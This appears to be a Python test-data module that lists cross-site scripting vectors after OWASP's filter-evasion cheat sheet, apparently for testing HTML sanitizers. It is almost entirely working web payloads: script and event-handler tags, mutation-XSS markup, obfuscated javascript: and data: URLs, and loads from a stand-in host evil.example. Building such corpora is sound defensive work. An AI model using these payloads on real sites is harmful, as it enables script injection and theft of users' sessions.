"""Ways to smuggle a script into a page, each written anew after the kinds on OWASP's cheat sheet on XSS filters.

`JS` is where the script goes; it holds no double quotes. A vector that runs asks the server for `/hit?…`.
"""

from __future__ import annotations

JS = "JS"

_TAGS = (
    """
<script>JS</script>
<SCRIPT SRC=//evil.example/x.js></SCRIPT>
<script/x>JS</script>
<<script>JS//<</script>
<scr<script>ipt>JS</scr</script>ipt>
<script >JS</script
<script src="data:text/javascript,JS"></script>
<img src=x onerror="JS">
<img src=x onerror=JS//
<img """
    '"""'
    """><script>JS</script>">
<img src="x" OnErRoR  =  "JS">
<img/src=x/onerror="JS"/>
<img src=x:x onerror&#61;"JS">
<img src="javascript:JS">
<img lowsrc="javascript:JS" dynsrc="javascript:JS">
<img srcset="x, javascript:JS 2x" src=x>
<image src=x onerror="JS">
<body onload="JS">
<body background="javascript:JS">
<svg onload="JS">
<svg/onload="JS"/>
<svg><script>JS</script></svg>
<svg><script href="data:,JS"/></svg>
<svg><a xlink:href="javascript:JS"><text x=9 y=9>x</text></a></svg>
<svg><animate onbegin="JS" attributeName=x dur=1s></svg>
<svg><set attributeName=href to=javascript:JS /></svg>
<svg><use href="data:image/svg+xml;base64,PHN2ZyBpZD0ieCIgb25sb2FkPSJmZXRjaCgnL2hpdD91c2UnKSIvPg==#x"/></svg>
<svg><foreignObject><iframe srcdoc="&lt;script&gt;JS&lt;/script&gt;"></iframe></foreignObject></svg>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=JS&gt;"></table></mtext></math>
<math href="javascript:JS">x</math>
<math><maction actiontype="statusline#http://x" xlink:href="javascript:JS">x</maction></math>
<iframe src="javascript:JS"></iframe>
<iframe srcdoc="<script>JS</script>"></iframe>
<iframe src="data:text/html,<script>JS</script>"></iframe>
<frameset><frame src="javascript:JS"></frameset>
<object data="javascript:JS"></object>
<object data="data:text/html;base64,PHNjcmlwdD5mZXRjaCgnL2hpdD9vYmonKTwvc2NyaXB0Pg=="></object>
<embed src="javascript:JS">
<applet code="x" onerror="JS"></applet>
<input type=image src=x onerror="JS">
<input autofocus onfocus="JS">
<select autofocus onfocus="JS"></select>
<textarea autofocus onfocus="JS"></textarea>
<button formaction="javascript:JS">x</button>
<form action="javascript:JS"><input type=submit></form>
<isindex action="javascript:JS" type=image>
<details open ontoggle="JS"><summary>x</summary></details>
<video onerror="JS"><source src=x></video>
<video poster="javascript:JS" src=x onerror="JS"></video>
<audio src=x onerror="JS"></audio>
<marquee onstart="JS">x</marquee>
<link rel=stylesheet href="//evil.example/x.css">
<link rel=import href="data:text/html,<script>JS</script>">
<meta http-equiv=refresh content="0;url=javascript:JS">
<meta http-equiv=refresh content="0;url=data:text/html,<script>JS</script>">
<meta http-equiv="Set-Cookie" content="x=<script>JS</script>">
<base href="javascript:JS//">
<base href="//evil.example/">
<style>@import "//evil.example/x.css";</style>
<style>body{background:url(//evil.example/x.png)}</style>
<style>*{behavior:url(x.htc)}</style><p style="background:url(//evil.example/p.png)">x</p>
<p style="background-image:url(javascript:JS)">x</p>
<p style="position:fixed;inset:0;width:expression(JS)">x</p>
<div style="&#x62;ackground:url(//evil.example/y.png)">x</div>
<table background="//evil.example/t.png"><tr><td background="javascript:JS">x</td></tr></table>
<bgsound src="javascript:JS">
<xml><i><b><![CDATA[<img src=x onerror=JS>]]></b></i></xml>
<!--[if gte IE 4]><script>JS</script><![endif]-->
<!--><img src=x onerror="JS">-->
<!-- --!><img src=x onerror="JS"> -->
<![CDATA[><script>JS</script>]]>
<?xml-stylesheet href="javascript:JS"?><?php <script>JS</script> ?>
<noscript><p title="</noscript><img src=x onerror=JS>"></noscript>
<title><p title="</title><img src=x onerror=JS>"></title>
<textarea><p title="</textarea><img src=x onerror=JS>"></textarea>
<template><script>JS</script></template>
<xmp><p title="</xmp><img src=x onerror=JS>"></xmp>
<noembed><p title="</noembed><img src=x onerror=JS>"></noembed>
<plaintext><img src=x onerror="JS">
<form id=x><math><mtext></form><form><mglyph><style></math><img src onerror="JS"></form>
<svg></p><style><a id="</style><img src=1 onerror=JS>">
<a href="x" onmouseover="JS" onclick="JS">x</a>
<p id="body" name="head">x</p><img name="getElementById"><form id="document"><input name="body"></form>
<dialog open onclose="JS"><form method=dialog><button autofocus>x</button></form></dialog>
<x onclick="JS" tabindex=1 autofocus onfocus="JS">x</x>
<p contenteditable autofocus onfocus="JS">x</p>
<a href="x" ping="//evil.example/ping" target=_blank>x</a>
"""
)

_LINKS = """
javascript:JS
JaVaScRiPt:JS
 javascript:JS
&#106;avascript:JS
&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;JS
&#0000106&#0000097&#0000118&#0000097script:JS
jav&#x09;ascript:JS
jav&#x0A;ascript:JS
java&Tab;script:JS
javascript&colon;JS
&#14; javascript:JS
\x01javascript:JS
java\tscript:JS
vbscript:msgbox(1)
data:text/html,<script>JS</script>
data:text/html;base64,PHNjcmlwdD5mZXRjaCgnL2hpdD9kYXRhJyk8L3NjcmlwdD4=
data:image/svg+xml,<svg onload=JS>
view-source:javascript:JS
feed:javascript:JS
jar:javascript:JS
blob:javascript:JS
//evil.example/x
https:evil.example
"""

TAGS = tuple(line for line in _TAGS.split("\n") if line)
"""Markup."""
LINKS = tuple(line for line in _LINKS.split("\n") if line)
"""URLs, for a place where a link may stand."""
